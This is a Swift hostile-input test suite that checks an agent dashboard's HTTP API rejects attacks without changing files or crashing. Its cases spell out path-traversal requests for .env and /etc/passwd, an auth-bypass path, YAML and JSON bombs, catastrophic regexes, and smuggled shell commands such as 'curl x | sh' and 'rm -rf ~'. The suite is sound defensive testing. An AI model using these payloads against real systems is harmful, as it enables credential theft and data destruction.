import Foundation
import Testing

/// Hostile input against the real binary on a demo home: every request gets a 4xx with the JSON error envelope,
/// no file of the home changes by a byte, and the process stays up.
@Suite(.serialized) struct HostileInputTests {
    /// A request and the status it must get (`nil`: any 4xx).
    struct Case: Sendable {
        let name: String
        let method: String
        let target: [UInt8]
        var headers: [String] = []
        var body: [UInt8] = []
        var chunked = false
        var status: Int?
        /// Whether the answer carries the JSON envelope; a request line that is not HTTP at all is refused by the
        /// HTTP parser (a bare 400 and a closed connection) before there is a request to answer in JSON.
        var envelope = true

        init(_ name: String, _ method: String, _ target: String, headers: [String] = [], body: String = "", status: Int? = nil) {
            self.init(name, method, Array(target.utf8), headers: headers, body: Array(body.utf8), status: status)
        }

        init(_ name: String, _ method: String, _ target: [UInt8], headers: [String] = [], body: [UInt8], chunked: Bool = false, status: Int? = nil) {
            self.name = name
            self.method = method
            self.target = target
            self.headers = headers
            self.body = body
            self.chunked = chunked
            self.status = status
        }

        /// The same case, answered by the HTTP parser rather than the application.
        var bare: Case {
            var copy = self
            copy.envelope = false
            return copy
        }
    }

    private static let json = ["Content-Type: application/json"]
    private static let anyVersion = ["Content-Type: application/json", "If-Match: *"]

    static func cases(job: String, run: String) -> [Case] {
        let tenMegabytes = [UInt8](repeating: UInt8(ascii: "a"), count: 10 << 20)
        let laughs = (1...9).map { level in "l\(level): &l\(level) [" + Array(repeating: "*l\(level - 1)", count: 9).joined(separator: ",") + "]" }
        let yamlBomb = "l0: &l0 \"lol\"\n" + laughs.joined(separator: "\n") + "\nmodel: *l9\n"
        return [
            // Bodies that are not JSON, nested too deeply, or too large.
            Case("not JSON", "PATCH", "/api/v1/config", headers: anyVersion, body: "operations: [this is yaml]", status: 400),
            Case("truncated JSON", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value": "abc"#, status: 400),
            Case(
                "JSON nested 100,000 deep (config)", "PATCH", "/api/v1/config", headers: anyVersion,
                body: String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000), status: 400),
            Case(
                "JSON nested 100,000 deep (keys)", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json,
                body: #"{"value":"# + String(repeating: "[", count: 100_000), status: 400),
            Case(
                "JSON nested 100,000 deep (cron)", "POST", "/api/v1/cron/jobs", headers: json,
                body: #"{"prompt":"# + String(repeating: "{\"a\":", count: 100_000), status: 400),
            Case("10 MB body", "PUT", Array("/api/v1/keys/HOSTILE_KEY".utf8), headers: json, body: tenMegabytes, status: 413),
            Case(
                "10 MB chunked body", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
                body: tenMegabytes, chunked: true, status: 413),
            Case(
                "wrong content type", "PUT", "/api/v1/config/raw", headers: ["Content-Type: image/png", "If-Match: *"], body: "model: x", status: 415),
            // Numbers out of range and wrong types.
            Case("count 1e400", "POST", "/api/v1/cron/preview", headers: json, body: #"{"schedule":"every 5m","count":1e400}"#, status: 400),
            Case("count -1", "POST", "/api/v1/cron/preview", headers: json, body: #"{"schedule":"every 5m","count":-1}"#, status: 400),
            Case(
                "repeat beyond Int64", "POST", "/api/v1/cron/jobs", headers: json,
                body: #"{"schedule":"every 5m","prompt":"x","repeat":99999999999999999999999}"#, status: 400),
            Case("limit beyond Int64", "GET", "/api/v1/sessions?limit=99999999999999999999999", status: 400),
            Case("negative days", "GET", "/api/v1/analytics/usage?days=-1", status: 400),
            Case("epoch 1e300", "GET", "/api/v1/sessions?from=1e300", status: 400),
            Case("value of the wrong type", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value": 12}"#, status: 400),
            Case(
                "config value of the wrong type", "PATCH", "/api/v1/config", headers: anyVersion,
                body: #"{"operations":[{"path":"agent.max_turns","value":"many"}]}"#, status: 422),
            // NUL and invalid UTF-8.
            Case("NUL in a key value", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value":"a\u0000b"}"#, status: 422),
            Case(
                "invalid UTF-8 in a JSON body", "PUT", Array("/api/v1/keys/HOSTILE_KEY".utf8), headers: json,
                body: Array(#"{"value":""#.utf8) + [0xFF, 0xFE, 0xC3] + Array(#""}"#.utf8), status: 400),
            Case(
                "invalid UTF-8 in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
                body: Array("model: ".utf8) + [0xC0, 0xAF], status: 400),
            Case(
                "NUL in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
                body: Array("model: a".utf8) + [0] + Array("b\n".utf8)),
            Case("invalid UTF-8 in a query", "GET", "/api/v1/sessions/search?q=%FF%FE", status: 400),
            Case("NUL in a query", "GET", "/api/v1/logs?q=a%00b", status: 400),
            Case("invalid UTF-8 in a path", "GET", "/api/v1/sessions/%C0%AF", status: 400),
            Case("raw invalid UTF-8 in a path", "GET", Array("/api/v1/skills/".utf8) + [0xFF, 0xFE], body: [], status: 400).bare,
            Case("a space in the request target", "GET", "/api/v1/skills/a b", status: 400).bare,
            // Alias bombs in raw config.
            Case("an empty path segment (the old auth bypass)", "POST", "//api/v1/keys/OPENROUTER_API_KEY/reveal", status: 400),
            Case(
                "an empty segment under the API root", "POST", "/api//v1/cron/jobs", headers: json, body: #"{"prompt":"x","schedule":"every 5m"}"#,
                status: 400),
            Case("a second Host header", "GET", "/api/v1/status", headers: ["Host: evil.example"], status: 400),
            Case("an unknown transfer coding", "POST", "/api/v1/cron/preview", headers: json + ["Transfer-Encoding: xchunked"], body: "{}").bare,
            Case(
                "NUL in an approval action", "POST", "/api/v1/approvals", headers: json,
                body: #"{"tool":"terminal","action":"uptime\u0000; curl x | sh"}"#, status: 400),
            Case(
                "a carriage return that would hide the start of a line", "POST", "/api/v1/approvals", headers: json,
                body: #"{"tool":"terminal","action":"echo ok\r rm -rf ~"}"#, status: 400),
            Case(
                "billion laughs", "PUT", "/api/v1/config/raw", headers: ["Content-Type: application/yaml", "If-Match: *"], body: yamlBomb, status: 422
            ),
            Case(
                "billion laughs in a dry run", "PUT", "/api/v1/config/raw?dryRun=true", headers: ["Content-Type: application/yaml"], body: yamlBomb,
                status: 422),
            // FTS and regex bombs.
            Case("too many search terms", "GET", "/api/v1/sessions/search?q=" + (1...40).map { "w\($0)" }.joined(separator: "%20"), status: 400),
            Case("search text too long", "GET", "/api/v1/sessions/search?q=" + String(repeating: "a", count: 600), status: 400),
            Case("short substring terms", "GET", "/api/v1/sessions/search?mode=substring&q=a%20b", status: 400),
            Case("catastrophic regex (nested +)", "GET", "/api/v1/logs?file=agent&q=/(a%2B)%2B$/", status: 400),
            Case("catastrophic regex (repeated .*)", "GET", "/api/v1/logs?file=agent&q=/(.*a)%7B20%7Dx/", status: 400),
            Case("regex that does not compile", "GET", "/api/v1/logs?q=/(unclosed/", status: 400),
            Case("regex too long", "GET", "/api/v1/logs?q=/" + String(repeating: "a", count: 300) + "/", status: 400),
            // Path tricks in every parameter that names a file.
            Case("skill name ..", "GET", "/api/v1/skills/..%2F..%2F.env", status: 400),
            Case("skill name dot segment", "GET", "/api/v1/skills/../../.env", status: 400),
            Case("skill file ..", "GET", "/api/v1/skills/sql-review/files/../../../.env", status: 400),
            Case("skill file encoded ..", "GET", "/api/v1/skills/sql-review/files/%2e%2e/%2e%2e/%2e%2e/config.yaml", status: 400),
            Case("skill file absolute", "GET", "/api/v1/skills/sql-review/files//etc/passwd"),
            Case("skill file backslash", "GET", "/api/v1/skills/sql-review/files/..\\..\\.env", status: 400),
            Case("skill content write ..", "PUT", "/api/v1/skills/..%2Fconfig/content", headers: anyVersion, body: #"{"text":"x"}"#, status: 400),
            Case(
                "skill create with a path name", "POST", "/api/v1/skills", headers: json,
                body: #"{"name":"../../evil","description":"x","body":"x"}"#, status: 400),
            Case("log file ..", "GET", "/api/v1/logs?file=../.env", status: 400),
            Case("log file absolute", "GET", "/api/v1/logs?file=/etc/passwd", status: 400),
            Case("log stream file ..", "GET", "/api/v1/logs/stream?file=..%2F.env", status: 400),
            Case("cron job id ..", "GET", "/api/v1/cron/jobs/..%2F..%2Fconfig.yaml", status: 400),
            Case("cron job id traversal to runs", "GET", "/api/v1/cron/jobs/../../.env/runs", status: 400),
            Case("cron run ..", "GET", "/api/v1/cron/jobs/\(job)/runs/..%2F..%2F..%2Fconfig.yaml", status: 400),
            Case("cron run name of another job", "GET", "/api/v1/cron/jobs/\(job)/runs/\(run).md"),
            Case("cron job write ..", "PUT", "/api/v1/cron/jobs/..%2Fx", headers: anyVersion, body: #"{"name":"x"}"#, status: 400),
            Case("config history id ..", "POST", "/api/v1/config/history/..%2F..%2F.env/restore", headers: ["If-Match: *"], status: 400),
            Case("session export ..", "GET", "/api/v1/sessions/..%2F..%2Fstate.db/export", status: 400),
            Case("static ..", "GET", "/../config.yaml", status: 400),
            Case("static encoded ..", "GET", "/%2e%2e/%2e%2e/etc/passwd", status: 400),
            Case("static asset ..", "GET", "/dist/..%2F..%2F.env", status: 400),
            Case("vendor file ..", "GET", "/vendor/../../config.yaml", status: 400),
            Case("static file that is not there", "GET", "/dist/app-missing.js", status: 404),
        ]
    }

    /// Every file of the home with its bytes, except the workspace's own state (audit trail, sessions).
    private static func snapshot(_ home: URL) throws -> [String: Data] {
        var files: [String: Data] = [:]
        let enumerator = FileManager.default.enumerator(at: home, includingPropertiesForKeys: [.isRegularFileKey])
        while let url = enumerator?.nextObject() as? URL {
            let relative = String(url.standardizedFileURL.path.dropFirst(home.standardizedFileURL.path.count + 1))
            if relative.hasPrefix("workspace/") || relative.hasSuffix("-shm") { continue }
            guard (try url.resourceValues(forKeys: [.isRegularFileKey])).isRegularFile == true else { continue }
            files[relative] = try Data(contentsOf: url)
        }
        return files
    }

    @Test func everyHostileRequestGetsA4xxEnvelopeAndNoFileChanges() async throws {
        let site = try await DemoSite.start(sessions: 30)
        defer { site.stop() }
        let log = site.home.appendingPathComponent("logs/agent.log")
        let handle = try FileHandle(forWritingTo: log)
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(("2026-11-25 05:00:00,000 INFO tools.web: " + String(repeating: "a", count: 6_000) + "!\n").utf8))
        try handle.close()
        let jobs = try JSONSerialization.jsonObject(with: Data(contentsOf: site.home.appendingPathComponent("cron/jobs.json"))) as? [String: Any]
        let ids = (jobs?["jobs"] as? [[String: Any]])?.compactMap { $0["id"] as? String } ?? []
        #expect(ids.count >= 2)
        let before = try Self.snapshot(site.home)
        #expect(["state.db", "config.yaml", ".env", "cron/jobs.json", "skills/data/sql-review/SKILL.md"].allSatisfy(before.keys.contains))

        let client = try await site.client()
        for hostile in Self.cases(job: ids[0], run: ids[1]) {
            let answer = try await client.send(hostile.method, hostile.target, headers: hostile.headers, body: hostile.body, chunked: hostile.chunked)
            if let status = hostile.status {
                #expect(answer.status == status, "\(hostile.name): got \(answer.status) \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
            } else {
                #expect(
                    (400..<500).contains(answer.status),
                    "\(hostile.name): got \(answer.status) \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
            }
            #expect(
                !hostile.envelope || answer.errorCode != nil,
                "\(hostile.name): no JSON error envelope in \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
            #expect(site.server.isRunning, "\(hostile.name): the server died")
        }
        let health = try await client.send("GET", "/api/v1/health")
        #expect(health.status == 200)
        let after = try Self.snapshot(site.home)
        #expect(Set(after.keys) == Set(before.keys), "files appeared or vanished: \(Set(after.keys).symmetricDifference(before.keys).sorted())")
        for (path, bytes) in before where after[path] != bytes { Issue.record("\(path) changed") }
    }
}
